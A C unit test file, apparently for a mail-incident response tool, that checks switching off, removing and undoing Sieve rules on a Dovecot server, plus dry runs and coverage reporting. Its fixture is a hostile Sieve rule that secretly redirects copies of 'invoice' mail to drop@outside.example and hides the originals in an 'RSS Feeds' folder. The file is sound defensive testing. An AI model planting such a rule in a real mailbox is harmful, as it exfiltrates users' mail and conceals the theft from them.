/* test_act_rule.c - a rule switched off on a real server, and back. */
#include "bench_act.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define HOSTILE                                                                                    \
    "# rule:[.]\nif header :contains \"subject\" \"invoice\"\n{\n"                                 \
    "\tredirect :copy \"drop@outside.example\";\n  fileinto \"RSS Feeds\";\n}\n"
#define GOOD "# rule:[lists]\nif header :is \"list-id\" \"a\" { fileinto \"Lists\"; }\n"

static const char script[] = "require [\"copy\", \"fileinto\"];\n# by hand\n" HOSTILE GOOD;
static const char without[] = "require [\"copy\", \"fileinto\"];\n# by hand\n" GOOD;
static const char switched_off[] =
    "require [\"copy\", \"fileinto\"];\n# by hand\n# rule:[.]\n"
    "if false # header :contains \"subject\" \"invoice\"\n\n{\n"
    "\tredirect :copy \"drop@outside.example\";\n  fileinto \"RSS Feeds\";\n}\n" GOOD;

static void begin(struct bench *bench, void **state)
{
    bench_open(bench, scene_of(state), script);
    if (bench_acquire(bench) != 10)
        fail_msg("acquire: %s", buf_c(&bench->said));
}

static const char *words_for(struct bench *bench, const char *verb)
{
    static char words[80];

    snprintf(words, sizeof(words), "%s %d", verb, (int)bench_rule(bench, "drop@outside.example"));
    return words;
}

static void expect(struct bench *bench, int want, int got)
{
    if (want != got)
        fail_msg("ended with %d, not %d: %s", got, want, buf_c(&bench->said));
}

static void expect_script(struct bench *bench, const char *want)
{
    struct buf have;

    assert_true(bench_script(bench, "main", &have));
    assert_string_equal(buf_c(&have), want);
    buf_dispose(&have);
}

static void a_rule_is_switched_off_and_undo_restores_every_byte(void **state)
{
    struct bench bench;
    char undo[80];

    begin(&bench, state);
    expect(&bench, 0, bench_act(&bench, bench.user, words_for(&bench, "disable-rule")));
    bench_expect_said(&bench, "+ if false # header");
    expect_script(&bench, switched_off);
    assert_true(bench_is_active(&bench, "main"));
    assert_int_equal(bench_action(&bench, 0)->outcome, ACTION_DONE);
    /* the case knows that it is off, without another acquisition */
    assert_int_equal(bench_run(&bench, "rules CASE --json"), 10);
    bench_expect_said(&bench, "\"enabled\":false");

    snprintf(undo, sizeof(undo), "undo %d", (int)bench_action(&bench, 0)->id);
    expect(&bench, 0, bench_act(&bench, bench.user, undo));
    expect_script(&bench, script);
    assert_true(bench_is_active(&bench, "main"));
    assert_int_equal(bench_action(&bench, 0)->outcome, ACTION_DONE);
    assert_int_equal(bench_action(&bench, 1)->undone, bench_action(&bench, 0)->id);
    expect(&bench, 2, bench_act(&bench, bench.user, undo)); /* not twice */
    expect_script(&bench, script);
    bench_verify(&bench);
    bench_close(&bench);
}

static void a_rule_is_taken_out(void **state)
{
    struct bench bench;

    begin(&bench, state);
    expect(&bench, 0, bench_act(&bench, bench.user, words_for(&bench, "remove-rule")));
    expect_script(&bench, without);
    assert_true(bench_is_active(&bench, "main"));
    bench_verify(&bench);
    bench_close(&bench);
}

static void nothing_leaves_for_another_mailbox_or_none(void **state)
{
    struct bench bench;
    const char *words;
    char other[300];

    begin(&bench, state);
    words = words_for(&bench, "disable-rule");
    /* not "no password": nobody is asked for one in vain */
    snprintf(other, sizeof(other),
             "act CASE %s --mailbox %s --account imaps://u99%%40mill.example@localhost", words,
             bench.user);
    expect(&bench, 2, bench_run(&bench, other));
    bench_expect_said(&bench, "the case knows this mailbox as");
    expect(&bench, 2, bench_act(&bench, "u99@mill.example", words));
    bench_expect_said(&bench, "nothing was sent");
    expect(&bench, 2, bench_act(&bench, NULL, words)); /* standard input is no terminal */
    bench_expect_said(&bench, "nothing was sent");
    expect_script(&bench, script);
    assert_int_equal(bench_actions(&bench), 0);
    /* the control: with the right name it does leave */
    expect(&bench, 0, bench_act(&bench, bench.user, words));
    expect_script(&bench, switched_off);
    bench_close(&bench);
}

static void a_dry_run_says_everything_and_sends_nothing(void **state)
{
    struct bench bench;
    char words[120];

    begin(&bench, state);
    snprintf(words, sizeof(words), "show CASE rule %d",
             (int)bench_rule(&bench, "drop@outside.example"));
    (void)bench_run(&bench, words);
    bench_expect_said(&bench, " disable-rule ");
    snprintf(words, sizeof(words), "%s --dry-run", words_for(&bench, "disable-rule"));
    expect(&bench, 0, bench_act(&bench, NULL, words));
    bench_expect_said(&bench, "CHECKSCRIPT {");
    bench_expect_said(&bench, "PUTSCRIPT \"main\" {");
    bench_expect_said(&bench, "- if header :contains \"subject\" \"invoice\"");
    bench_expect_said(&bench, "        redirect :copy"); /* not <U+0009> */
    bench_expect_said(&bench, "Nothing was sent");
    expect_script(&bench, script);
    assert_int_equal(bench_actions(&bench), 0);
    bench_close(&bench);
}

static void scripts_are_deactivated_removed_and_restored(void **state)
{
    struct bench bench;
    struct buf gone;

    begin(&bench, state);
    expect(&bench, 0, bench_act(&bench, bench.user, "deactivate-script"));
    assert_int_equal(bench_run(&bench, "journal CASE --filter besides --json"), 10);
    bench_expect_said(&bench, "1 command besides those that only read");
    expect_script(&bench, script);
    assert_false(bench_is_active(&bench, "main"));
    expect(&bench, 0, bench_act(&bench, bench.user, "undo 1"));
    assert_true(bench_is_active(&bench, "main"));
    expect(&bench, 0, bench_act(&bench, bench.user, "remove-script main"));
    assert_false(bench_script(&bench, "main", &gone));
    assert_false(bench_is_active(&bench, "main"));
    expect(&bench, 0, bench_act(&bench, bench.user, "undo 3"));
    expect_script(&bench, script);
    assert_true(bench_is_active(&bench, "main"));
    bench_verify(&bench);
    bench_close(&bench);
}

static void a_script_that_changed_meanwhile_is_left_alone(void **state)
{
    struct bench bench;
    struct error err = {0};

    begin(&bench, state);
    if (!dovecot_script(&bench.scene->dovecot, bench.user, "main", true, without, &err))
        fail_msg("%s", err.text);
    expect(&bench, 2, bench_act(&bench, bench.user, words_for(&bench, "disable-rule")));
    bench_expect_said(&bench, "has changed since it was read");
    expect_script(&bench, without);
    assert_int_equal(bench_actions(&bench), 0);
    bench_close(&bench);
}

/* Coverage speaks of the newest look, not of the last that succeeded. */
static void an_acquisition_that_misses_the_rules_is_said_by_coverage(void **state)
{
    struct bench bench;
    unsigned sieve;

    bench_open(&bench, scene_of(state), without);
    sieve = bench.sieve;
    expect(&bench, 20, bench_acquire(&bench)); /* there is no mail to examine */
    assert_null(strstr(buf_c(&bench.said), "NOT READ"));
    expect(&bench, 20, bench_run(&bench, "coverage CASE"));
    bench_expect_said(&bench, ": 1 rule examined\n");
    bench.sieve = 1;
    expect(&bench, 20, bench_acquire(&bench));
    bench_expect_said(&bench, "NOT READ, or not wholly: Mail rules (Sieve)");
    expect(&bench, 20, bench_run(&bench, "coverage CASE"));
    bench_expect_said(&bench, "partly checked");
    bench_expect_said(&bench, "have not been seen since ");
    bench_expect_said(&bench, "cannot reach localhost:1");
    expect(&bench, 0, bench_run(&bench, "report CASE --format md --lang vi -o -"));
    bench_expect_said(&bench, "hãy thu thập lại, xem các bộ lọc");
    bench_expect_said(&bench, "không đọc được chúng: không kết nối được tới localhost:1: ");
    expect(&bench, 0, bench_run(&bench, "report CASE --format md --lang zh -o -"));
    bench_expect_said(&bench, "没有读取它们：无法连接到 localhost:1：");
    expect(&bench, 20, bench_run(&bench, "scan CASE --quiet"));
    expect(&bench, 20, bench_run(&bench, "coverage CASE"));
    bench_expect_said(&bench, "have not been seen since ");
    bench.sieve = sieve;
    expect(&bench, 20, bench_acquire(&bench)); /* there is no mail to examine */
    assert_null(strstr(buf_c(&bench.said), "NOT READ"));
    expect(&bench, 20, bench_run(&bench, "coverage CASE"));
    bench_expect_said(&bench, ": 1 rule examined\n");
    bench_verify(&bench);
    bench_close(&bench);
}

/* The journal below stays as it was written: it is evidence. */
static void a_copy_that_failed_is_told_in_the_reports_language(void **state)
{
    struct bench bench;

    bench_open(&bench, scene_of(state), without);
    bench.imaps = bench.sieve = 1;
    assert_int_not_equal(bench_acquire(&bench), 0);
    expect(&bench, 0, bench_run(&bench, "report CASE --format md --lang vi -o -"));
    bench_expect_said(&bench, "của 0 thư: không kết nối được tới localhost:1: ");
    bench_expect_said(&bench, "| không kết nối được tới localhost:1: Connection refused |\n");
    bench_expect_said(&bench, "| localhost | cannot reach localhost:1: Connection refused |");
    bench_close(&bench);
}

static void findings_of_old_rules_do_not_hide_that_none_were_read(void **state)
{
    struct bench bench;

    begin(&bench, state);
    bench.sieve = 1;
    expect(&bench, 10, bench_acquire(&bench));
    bench_expect_said(&bench, "NOT READ, or not wholly: Mail rules (Sieve)");
    bench_expect_said(&bench, "have not been seen since ");
    bench_close(&bench);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_rule_is_switched_off_and_undo_restores_every_byte),
        cmocka_unit_test(a_rule_is_taken_out),
        cmocka_unit_test(nothing_leaves_for_another_mailbox_or_none),
        cmocka_unit_test(a_dry_run_says_everything_and_sends_nothing),
        cmocka_unit_test(scripts_are_deactivated_removed_and_restored),
        cmocka_unit_test(a_script_that_changed_meanwhile_is_left_alone),
        cmocka_unit_test(an_acquisition_that_misses_the_rules_is_said_by_coverage),
        cmocka_unit_test(a_copy_that_failed_is_told_in_the_reports_language),
        cmocka_unit_test(findings_of_old_rules_do_not_hide_that_none_were_read),
    };

    return cmocka_run_group_tests(tests, scene_open, scene_close);
}
